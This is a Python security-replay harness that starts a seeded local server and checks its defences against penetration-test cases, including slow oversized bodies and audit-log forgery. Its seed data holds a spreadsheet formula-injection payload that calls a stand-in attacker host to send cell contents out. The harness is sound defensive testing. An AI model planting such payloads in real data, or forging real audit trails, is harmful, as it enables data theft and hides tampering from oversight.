"""Replay the hostile cases of a penetration test against a live server on 127.0.0.1.

A throwaway database is seeded (accounts, a declaration, a hostile open-source seizure), the app
is served by uvicorn on a free port in production mode, and each case is sent over real sockets.
Every case says what a safe server answers and what this one did.
"""

from __future__ import annotations

import re
import socket
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path

import httpx

from kordon.app import create_app
from kordon.domain import (
    Checkpoint,
    CheckpointKind,
    QuantityUnit,
    Seizure,
    SeizureItem,
    SeizureSource,
)
from kordon.domain.accounts import Role
from kordon.http.guard import SECURITY_HEADERS
from kordon.intake.reader import read_documents
from kordon.services import accounts, audit, audit_anchor
from kordon.services.importing import import_rows
from kordon.settings import Settings
from kordon.storage.store import SqlStore, open_store
from kordon.storage.tables import audit_head, audit_log

PASSWORD = "astara samur border post"
DECLARATION = "AZ-AST-0001"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@dataclass(frozen=True, slots=True)
class Outcome:
    """One replayed case: what was sent, what a safe server does, what this one did."""

    name: str
    passed: bool
    detail: str

    def line(self) -> str:
        """One line for the report."""
        return f"{'PASS' if self.passed else 'FAIL'}  {self.name:<58} {self.detail}"


@dataclass
class Target:
    """The live server and what the cases need to reach it."""

    host: str
    port: int
    tokens: dict[str, str]
    store: SqlStore

    @property
    def url(self) -> str:
        """The server's base address."""
        return f"http://{self.host}:{self.port}"

    def client(self, as_user: str = "boss") -> httpx.Client:
        """An HTTP client on the server with an account's API token ('' for none)."""
        headers = {"Authorization": f"Bearer {self.tokens[as_user]}"} if as_user else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=30, follow_redirects=False)

    def page(self, username: str) -> httpx.Client:
        """A client signed in through the sign-in form. The production cookies are Secure and
        this is plain http on loopback, so the session cookie is carried by hand."""
        client = httpx.Client(base_url=self.url, timeout=30, follow_redirects=False)
        form = client.get("/sign-in")
        jar = _cookies(form)
        sent = client.post("/sign-in", headers={"Cookie": _header(jar)},
                           data={"username": username, "password": PASSWORD,
                                 "csrf_token": csrf_of(form.text)})  # fmt: skip
        client.headers["Cookie"] = _header({**jar, **_cookies(sent)})
        return client


def _cookies(response: httpx.Response) -> dict[str, str]:
    pairs = (line.split(";", 1)[0] for line in response.headers.get_list("set-cookie"))
    return dict(pair.split("=", 1) for pair in pairs if "=" in pair)


def _header(jar: dict[str, str]) -> str:
    return "; ".join(f"{name}={value}" for name, value in jar.items())


def csrf_of(html: str) -> str:
    found = CSRF.search(html)
    return found.group(1) if found else ""


USERS = {
    "boss": Role.SUPERVISOR,
    "ana": Role.RISK_ANALYST,
    "intel": Role.INTELLIGENCE_OFFICER,
    "root": Role.ADMINISTRATOR,
    "guessed": Role.RISK_ANALYST,
}


def _seed(store: SqlStore) -> dict[str, str]:
    with store.transaction() as uow:
        uow.checkpoints.upsert_many(
            [Checkpoint("AZ-AST", "Astara", "AZ", CheckpointKind.LAND_BORDER, "IR", 4)]
        )
        uow.seizures.add(
            Seizure(
                source=SeizureSource.OPEN_SOURCE,
                occurred_on=date.today().replace(day=1),
                place='=HYPERLINK("http://attacker.example/?"&A1,"click")',
                items=(SeizureItem("heroin", 301.5, QuantityUnit.KG, "301.5 kg"),),
                recorded_at=datetime.now(),
            )
        )
    document = {"id": DECLARATION, "lodged_at": datetime.now().isoformat(timespec="seconds"),
                "checkpoint": "AZ-AST", "direction": "transit", "procedure": "T1",
                "items": [{"hs_code": "080620", "description": "Raisins", "net_mass_kg": 18000}],
                "route": {"origin": "IR", "destination": "MD"}}  # fmt: skip
    summary = import_rows(store, read_documents([document]), source="security replay")
    assert summary.rejected == 0, summary.errors
    tokens = {}
    for name, role in USERS.items():
        accounts.create_user(store, username=name, role=role, password=PASSWORD)
        tokens[name] = accounts.issue_token(store, name, name="replay")
    return tokens


@contextmanager
def live_server() -> Iterator[Target]:
    """A seeded server in production mode on a free port of 127.0.0.1, stopped at the end."""
    import uvicorn

    with tempfile.TemporaryDirectory(prefix="kordon-security-") as folder:
        settings = Settings(
            database_url=f"sqlite:///{Path(folder) / 'kordon.db'}",
            data_dir=Path(folder),
            secret_key="security-replay-secret-key-0123456789abcdef",
            audit_key="security-replay-audit-key-0123456789abcdef",
        )
        store = open_store(settings.database_url, audit_key=settings.audit_secret())
        tokens = _seed(store)
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            port = int(sock.getsockname()[1])
        config = uvicorn.Config(create_app(settings), host="127.0.0.1", port=port,
                                log_level="critical")  # fmt: skip
        server = uvicorn.Server(config)
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        deadline = time.monotonic() + 60
        while not server.started and time.monotonic() < deadline:
            time.sleep(0.05)
        try:
            yield Target("127.0.0.1", port, tokens, store)
        finally:
            server.should_exit = True
            thread.join(timeout=10)
            store.close()


def raw_post(
    target: Target, path: str, headers: dict[str, str], *, pieces: int, method: str = "POST"
) -> str:
    """Send a request head and a few 64 KB pieces of its body (chunked when the headers say
    so), then wait for the answer: a server that reads the body first never answers in time."""
    head = [f"{method} {path} HTTP/1.1", f"Host: {target.host}", "Connection: close"]
    head += [f"{k}: {v}" for k, v in headers.items()]
    piece = b"x" * 65_536
    if headers.get("Transfer-Encoding") == "chunked":
        piece = f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
    with socket.create_connection((target.host, target.port), timeout=10) as sock:
        sock.sendall(("\r\n".join(head) + "\r\n\r\n").encode())
        try:
            for _ in range(pieces):
                sock.sendall(piece)
        except OSError:
            pass  # answered and closed before the body: the point of the case
        return sock.recv(4096).decode("latin-1").split("\r\n", 1)[0]


def headers_ok(response: httpx.Response) -> bool:
    """Whether an answer carries every security header."""
    return all(name in response.headers for name in SECURITY_HEADERS)


def expect(name: str, response: httpx.Response, status: int, *, json_error: bool = True) -> Outcome:
    """A case that passes when the status is right, with the headers and the error shape."""
    shape = True
    if json_error:
        try:
            shape = response.json()["error"]["status"] == status
        except (ValueError, KeyError, TypeError):
            shape = False
    passed = response.status_code == status and headers_ok(response) and shape
    return Outcome(name, passed, f"expected {status}, got {response.status_code}"
                   + ("" if headers_ok(response) else ", security headers missing")
                   + ("" if shape else ", not the JSON error shape"))  # fmt: skip


def audit_cases(target: Target) -> list[Outcome]:
    """Anchor the trail, then forge it the three ways the penetration test did."""
    store, results = target.store, []
    anchor = audit_anchor.checkpoint(store)
    results.append(Outcome("audit trail intact and anchored", audit.verify(store).ok,
                           f"anchor at entry {anchor.seq}"))  # fmt: skip
    with store.engine.begin() as connection:
        kept = connection.execute(audit_log.select().where(audit_log.c.seq == anchor.seq - 1)).one()
        connection.execute(audit_log.delete().where(audit_log.c.seq >= anchor.seq))
        connection.execute(audit_head.update().values(seq=kept.seq, hash=kept.hash))
    cut = audit_anchor.verify_against(store, anchor)
    results.append(Outcome("audit tail cut and head moved back: caught", not cut.ok,
                           cut.problem or "not caught"))  # fmt: skip
    with store.engine.begin() as connection:
        connection.execute(audit_log.delete())
        connection.execute(audit_head.delete())
    wiped = audit_anchor.verify_against(store, anchor)
    results.append(Outcome("audit tables wiped: caught", not wiped.ok,
                           wiped.problem or "not caught"))  # fmt: skip
    return results


Case = Callable[[Target], list[Outcome]]
